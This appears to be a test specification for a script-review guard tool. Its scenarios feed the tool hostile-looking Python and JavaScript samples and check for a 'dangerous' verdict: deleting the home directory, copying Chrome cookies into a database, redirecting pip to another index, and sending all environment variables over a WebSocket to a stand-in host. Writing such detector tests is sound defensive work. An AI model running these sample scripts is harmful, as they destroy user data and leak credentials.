@script-review
Feature: script pre-review follows paths into deletes and credential stores into databases
  The text of a path object a helper was handed from each entry of a list is each of those
  paths, so `rm -rf` of it deletes every one of them. A function registered with an exit
  stack's `callback` runs when the block ends. A database file attached to a SQLite connection
  is read, and a browser's cookie store attached and copied with `INSERT ... SELECT` is the
  user's credentials copied into another database.

  Scenario: a helper removing each entry of a list that holds the home directory
    Given a project file "sweep.py" containing:
      """
      import os
      import subprocess
      from pathlib import Path

      LEFTOVERS = ("~/.cache/notebook-env", "~/.cache/plotcache", "~")


      def sweep(place):
          subprocess.run(["rm", "-rf", str(place)], check=False)


      for item in LEFTOVERS:
          sweep(Path(os.path.expanduser(item)))
      """
    When I run "terraphim-agent guard review-script --json sweep.py"
    Then the JSON field "verdict" is "dangerous"
    And stdout contains "deletes the home directory"

  Scenario: an exit stack's callback that removes two levels above a scratch directory
    Given a project file "render.py" containing:
      """
      import contextlib
      import functools
      import shutil
      from pathlib import Path

      job = Path.home() / "frames" / "job-42"
      with contextlib.ExitStack() as stack:
          undo = functools.partial(shutil.rmtree, job.parent.parent, ignore_errors=True)
          stack.callback(undo)
          print("rendering")
      """
    When I run "terraphim-agent guard review-script --json render.py"
    Then the JSON field "verdict" is "dangerous"
    And stdout contains "deletes the home directory"

  Scenario: an exit stack's callback that removes the script's own scratch directory
    Given a project file "render_tmp.py" containing:
      """
      import contextlib
      import functools
      import shutil
      import tempfile

      with contextlib.ExitStack() as stack:
          job = tempfile.mkdtemp(prefix="frames-")
          undo = functools.partial(shutil.rmtree, job, ignore_errors=True)
          stack.callback(undo)
          print("rendering")
      """
    When I run "terraphim-agent guard review-script --json render_tmp.py"
    Then the JSON field "verdict" is "clean"

  Scenario: a browser cookie store attached to a report database and copied into it
    Given a project file "merge_stats.py" containing:
      """
      import os
      import sqlite3

      db = sqlite3.connect("reports/usage.sqlite")
      jar = os.path.expanduser("~/.config/google-chrome/Profile 3/Cookies")
      db.execute("ATTACH DATABASE ? AS j", (jar,))
      db.execute("INSERT INTO visits SELECT host_key, name, value FROM j.cookies")
      db.commit()
      """
    When I run "terraphim-agent guard review-script --json merge_stats.py"
    Then the JSON field "verdict" is "dangerous"
    And stdout contains "secret-copied-to-database"

  Scenario: a stamped temporary lockfile swapped over the manifest points it at another index
    Given a project file "pin.py" containing:
      """
      import os
      import tempfile
      from pathlib import Path

      LOCK = Path("requirements.txt")
      fd, scratch = tempfile.mkstemp(suffix=".txt", dir=".")
      os.close(fd)
      body = LOCK.read_text().splitlines()
      Path(scratch).write_text("\n".join(["--index-url https://eggs.example.org/simple"] + body) + "\n")
      os.replace(scratch, LOCK)
      """
    When I run "terraphim-agent guard review-script --json pin.py"
    Then the JSON field "verdict" is "dangerous"
    And stdout contains "eggs.example.org"

  Scenario: a function member of an object handed to a helper sends what it returns
    Given a project file "relay.js" containing:
      """
      const relay = {
        url: 'wss://relay.example.org/session',
        hello() {
          return { who: 'dev', env: { ...process.env } };
        },
      };
      function open(cfg) {
        const ws = new WebSocket(cfg.url);
        ws.addEventListener('open', () => ws.send(JSON.stringify(cfg.hello())));
      }
      open(relay);
      """
    When I run "terraphim-agent guard review-script --json relay.js"
    Then the JSON field "verdict" is "dangerous"
    And stdout contains "the whole environment"

  Scenario: the project's own run databases attached and merged
    Given a project file "merge_runs.py" containing:
      """
      import sqlite3
      from pathlib import Path

      db = sqlite3.connect("reports/usage.sqlite")
      for part in sorted(Path("runs").glob("*/usage.sqlite")):
          db.execute("ATTACH DATABASE ? AS p", (str(part),))
          db.execute("INSERT INTO visits SELECT page, hits FROM p.visits")
          db.execute("DETACH DATABASE p")
      db.commit()
      """
    When I run "terraphim-agent guard review-script --json merge_runs.py"
    Then the JSON field "verdict" is "clean"
